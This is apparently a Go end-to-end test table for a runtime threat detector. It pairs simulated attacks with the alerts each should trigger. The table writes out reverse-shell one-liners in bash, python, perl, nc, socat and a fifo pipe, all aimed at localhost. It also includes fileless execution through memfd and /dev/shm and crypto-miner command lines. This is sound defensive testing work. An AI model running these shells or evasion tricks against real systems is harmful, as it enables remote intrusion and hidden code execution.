//go:build lab

package e2e

// What runs where or how it should not.
var executionAttacks = []performance{
	{
		name: "reverse shell in C", command: "attack reverse 4444",
		finds: []string{`TRC-1 /usr/local/bin/attack {"fd":0,"ip":"127.0.0.1","port":"4444"}`},
	},
	{
		name: "reverse shell of bash", command: "bash -c 'bash -c : >&/dev/tcp/127.0.0.1/4444 0>&1'",
		finds: []string{
			`TRC-1 /usr/bin/bash {"fd":1,"ip":"127.0.0.1","port":"4444"}`,
			`TH-2 /usr/bin/bash {"peer":"127.0.0.1:4444","program":"/usr/bin/bash"}`,
		},
	},
	{
		name: "reverse shell of python",
		command: `python3 -c 'import os, socket
s = socket.create_connection(("127.0.0.1", 4444))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
os.execl("/bin/sh", "sh", "-c", ":")'`,
		finds: []string{
			`TRC-1 /usr/bin/python3.11 {"fd":0,"ip":"127.0.0.1","port":"4444"}`,
			`TH-2 /usr/bin/python3.11 {"peer":"127.0.0.1:4444","program":"/usr/bin/python3.11"}`,
		},
	},
	{
		name: "reverse shell of perl",
		command: `perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, INADDR_LOOPBACK)) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-c", ":")'`,
		finds: []string{
			`TRC-1 /usr/bin/perl {"fd":0,"ip":"127.0.0.1","port":"4444"}`,
			`TH-2 /usr/bin/perl {"peer":"127.0.0.1:4444","program":"/usr/bin/perl"}`,
		},
	},
	{
		name: "reverse shell of busybox nc", command: "busybox nc 127.0.0.1 4444 -e /bin/true",
		finds: []string{
			`TRC-1 /usr/bin/busybox {"fd":0,"ip":"127.0.0.1","port":"4444"}`,
			`TH-2 /usr/bin/busybox {"peer":"127.0.0.1:4444","program":"/usr/bin/busybox"}`,
		},
	},
	{
		name: "reverse shell of socat", command: "socat TCP:127.0.0.1:4444 EXEC:/bin/true,nofork",
		finds: []string{
			`TRC-1 /usr/bin/socat {"fd":1,"ip":"127.0.0.1","port":"4444"}`,
			`TH-2 /usr/bin/socat {"peer":"127.0.0.1:4444","program":"/usr/bin/socat"}`,
			`TH-2 /usr/bin/socat {"arguments":"socat TCP:127.0.0.1:4444 EXEC:/bin/true,nofork","program":"/usr/bin/socat"}`,
		},
	},
	{
		name: "reverse shell of socat at a terminal", command: "socat exec:/bin/sh,pty,stderr tcp:127.0.0.1:4444 & sleep 1; kill $!",
		finds: []string{`TH-2 /usr/bin/socat {"arguments":"socat exec:/bin/sh,pty,stderr tcp:127.0.0.1:4444","program":"/usr/bin/socat"}`},
	},
	{
		name: "reverse shell through pipes", command: "mkfifo /tmp/pipe; sh -i </tmp/pipe 2>&1 | timeout 1 nc 127.0.0.1 4444 >/tmp/pipe || :; rm /tmp/pipe",
		finds: []string{`TH-2 /usr/bin/dash {"arguments":"sh -i","program":"/usr/bin/dash"}`},
	},
	{name: "asks to be traced", command: "attack traceme", finds: []string{"TRC-2 /usr/local/bin/attack null"}},
	{
		// It tries out what the kernel's ptrace can do on a child of its own that asks to
		// be traced; the program that it then traces does not ask.
		name: "strace", command: "strace -o /dev/null true", finds: []string{"TRC-2 /usr/bin/strace null"},
	},
	{
		name: "packed program", command: "inject unpack",
		finds: []string{`TRC-4 /usr/local/bin/inject {"alert":"Protection changed from W+E to E!"}`},
	},
	{
		name: "program in a memfd", command: "attack memfd /usr/bin/true",
		finds: []string{`TRC-5 memfd:payload {"pathname":"memfd:payload"}`},
	},
	{
		name: "program in a memfd in a container", in: container, command: "attack memfd /usr/bin/true",
		finds: []string{`TRC-5 memfd:payload {"pathname":"memfd:payload"}`},
	},
	{
		name: "program in /dev/shm", prepare: "cp /usr/bin/true /dev/shm/payload", command: "/dev/shm/payload",
		finds: []string{`TRC-5 /dev/shm/payload {"pathname":"/dev/shm/payload"}`},
	},
	{
		name: "program in /dev/shm, run by the loader", command: "l=$(readlink -f /lib64/ld-linux-x86-64.so.2); fact loader $l; $l /dev/shm/payload",
		finds: []string{`TRC-5 <loader> {"pathname":"/dev/shm/payload"}`},
	},
	{
		name: "nginx runs a command", prepare: "cp /usr/bin/dash /tmp/nginx", command: "/tmp/nginx -c '/bin/sh -c :; :'",
		finds: []string{`TRC-12 /tmp/nginx {"pathname":"/usr/bin/dash"}`},
	},
	{
		name:    "nginx runs a script",
		prepare: `printf '#!/bin/sh\n:\n' >/tmp/script; chmod +x /tmp/script`, command: "/tmp/nginx -c '/tmp/script; :'",
		finds: []string{`TRC-12 /tmp/nginx {"pathname":"/usr/bin/dash"}`},
	},
	{
		name: "miner by its arguments", prepare: "cp /usr/bin/true /tmp/kworker", command: "/tmp/kworker -o stratum+tcp://pool.example:443 -u x",
		finds: []string{`TH-3 /tmp/kworker {"arguments":"/tmp/kworker -o stratum+tcp://pool.example:443 -u x","program":"/tmp/kworker"}`},
	},
	{
		name: "miner by its name", prepare: "cp /usr/bin/true /tmp/xmrig", command: "/tmp/xmrig",
		finds: []string{`TH-3 /tmp/xmrig {"arguments":"/tmp/xmrig","program":"/tmp/xmrig"}`},
	},
	{
		name: "connection to a pool", prepare: "ip addr add 192.0.2.7/32 dev lo", command: "nc -w 1 192.0.2.7 3333 || :",
		finds: []string{`TH-3 /usr/bin/nc.openbsd {"pool":"192.0.2.7:3333"}`},
	},
}
